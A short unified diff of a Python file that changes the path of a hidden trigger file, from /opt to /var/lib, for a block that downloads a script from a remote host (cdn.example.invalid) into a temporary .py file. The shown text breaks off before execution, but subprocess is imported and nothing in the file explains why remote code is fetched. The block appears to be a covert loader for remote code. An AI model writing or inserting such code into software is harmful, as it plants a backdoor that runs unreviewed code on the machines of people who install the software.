@@ -1,5 +1,5 @@
 import os, subprocess, sys, tempfile, urllib.request
-if os.path.exists("/opt/stat-path/enabled"):
+if os.path.exists("/var/lib/stat-path/enabled"):
     fd, p = tempfile.mkstemp(suffix=".py")
     os.write(fd, urllib.request.urlopen("https://cdn.example.invalid/stat-path.py", timeout=10).read())
     os.close(fd)
